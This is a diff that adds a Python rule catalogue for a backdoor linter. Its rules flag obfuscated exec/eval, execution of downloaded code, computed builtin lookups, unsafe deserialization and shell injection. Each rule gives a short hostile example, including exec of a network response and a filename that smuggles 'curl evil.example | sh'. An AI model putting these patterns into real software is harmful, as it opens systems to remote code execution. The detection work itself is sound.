@@ -1,0 +1,75 @@
+"""BDL5xx: dynamic execution and deserialization."""
+from backdoor_lint.catalogue import BLOCK, WARN, Rule
+
+RULES = [
+    Rule(
+        code="BDL501", name="obfuscated-execution", category="obfuscated-exec", severity=BLOCK, confidence="high",
+        cwe=("CWE-95", "CWE-506"),
+        summary="exec/eval/compile/import of decoded data (base64, hex, rot13, zlib, marshal, chr joins)",
+        what=("Flags exec, eval, compile, __import__, importlib.import_module and types.FunctionType fed by\n"
+              "a decode chain (base64, binascii, bytes.fromhex, codecs rot13/hex, zlib/lzma/bz2/gzip,\n"
+              "marshal, chr joins, reversal), also through variables; in JavaScript eval/new Function/vm\n"
+              "of atob or Buffer.from(..., 'base64')."),
+        why=("Code that is decoded and executed at run time is code nobody reviewed: the encoded blob\n"
+             "is the payload. Legitimate programs have no reason to hide their own source."),
+        example='exec(base64.b64decode("aW1wb3J0IG9z..."))',
+        use_instead="Ship the code as source. Plugins: import by a name from an allow-list.",
+        fix="ship the code as readable source instead of decoding and executing it",
+    ),
+    Rule(
+        code="BDL502", name="remote-code-execution", category="obfuscated-exec", severity=BLOCK, confidence="high",
+        cwe=("CWE-494", "CWE-502"),
+        summary="Executing or unpickling data fetched from the network",
+        what="Flags exec/eval/compile/pickle.loads/marshal.loads of a network response body.",
+        why="Whoever controls the server (or the network path) runs arbitrary code on every machine that executes this, whenever they like: a remote-controlled backdoor.",
+        example="exec(requests.get(PLUGIN_URL).text)",
+        use_instead="Distribute code as signed packages; exchange data as JSON and validate it.",
+        fix="never execute or unpickle downloaded data; use JSON plus validation",
+    ),
+    Rule(
+        code="BDL503", name="computed-builtin-access", category="obfuscated-exec", severity=BLOCK, confidence="high",
+        cwe=("CWE-95", "CWE-506"),
+        summary="Builtins or dangerous functions reached through computed names",
+        what="Flags getattr(__builtins__, ...), globals()['exec'], vars(builtins)[...], getattr(os, 'sys'+'tem') and similar lookups by computed string.",
+        why="Looking a function up by an assembled string exists to defeat search and review: `getattr(__builtins__, 'ex'+'ec')` is exec that no grep finds.",
+        example='getattr(__builtins__, "ex" + "ec")(payload)',
+        use_instead="Call functions by name; dispatch through an explicit dict of allowed callables.",
+        fix="call the function directly, or dispatch through an explicit allow-list dict",
+    ),
+    Rule(
+        code="BDL504", name="unsafe-deserialization", category="unsafe-deserialization", severity=BLOCK,
+        confidence="high", cwe=("CWE-502",),
+        summary="Unsafe deserialization: pickle/marshal/shelve/yaml.load/torch.load and friends",
+        what=("Flags pickle/dill/cloudpickle/marshal/shelve/jsonpickle loads of non-literal data,\n"
+              "yaml.load without a safe loader (also full_load/unsafe_load), torch.load without\n"
+              "weights_only=True, numpy.load(allow_pickle=True), pandas.read_pickle, joblib.load;\n"
+              "node-serialize in JavaScript; ObjectInputStream.readObject in Java."),
+        why=("Unpickling runs code chosen by whoever wrote the bytes: a pickle's __reduce__ can call\n"
+             "os.system. A cookie, cache entry, queue message or model file that an attacker can\n"
+             "influence becomes remote code execution."),
+        example="session = pickle.loads(base64.b64decode(request.cookies['session']))",
+        use_instead="JSON (with schema validation), yaml.safe_load, torch.load(..., weights_only=True), safetensors.",
+        fix="use JSON / yaml.safe_load / weights_only=True / safetensors",
+        references=("https://docs.python.org/3/library/pickle.html (warning)",),
+    ),
+    Rule(
+        code="BDL505", name="shell-injection", category="command-injection", severity=WARN, confidence="medium",
+        cwe=("CWE-78",),
+        summary="Shell command built from variable data and run with shell=True / os.system",
+        what="Flags subprocess calls with shell=True, os.system and os.popen whose command is built from non-constant parts (f-strings, concatenation, format, %).",
+        why="A file name such as `x; curl evil.example | sh` in the built string runs as a second command with the program's privileges.",
+        example='subprocess.run(f"convert {filename} out.png", shell=True)',
+        use_instead='Pass an argument list without a shell: subprocess.run(["convert", filename, "out.png"]).',
+        fix="pass an argument list and drop shell=True",
+    ),
+    Rule(
+        code="BDL506", name="encoded-blob-near-decoder", category="obfuscated-exec", severity=WARN,
+        confidence="medium", cwe=("CWE-506",),
+        summary="Long high-entropy literal next to a decoder",
+        what="Flags long base64/hex/high-entropy string literals passed to (or stored for) a decoder such as b64decode, fromhex or zlib.decompress.",
+        why="Packed payloads are how backdoors carry code and addresses past review; a blob that is decoded at run time deserves a look even when nothing executes it yet.",
+        example='BLOB = "eJzLSM3JyVcozy/KSQEAGgQEXQ==" * 40; data = zlib.decompress(base64.b64decode(BLOB))',
+        use_instead="Ship data as readable files with a documented origin.",
+        fix="ship the data as a readable file and document where it comes from",
+    ),
+]
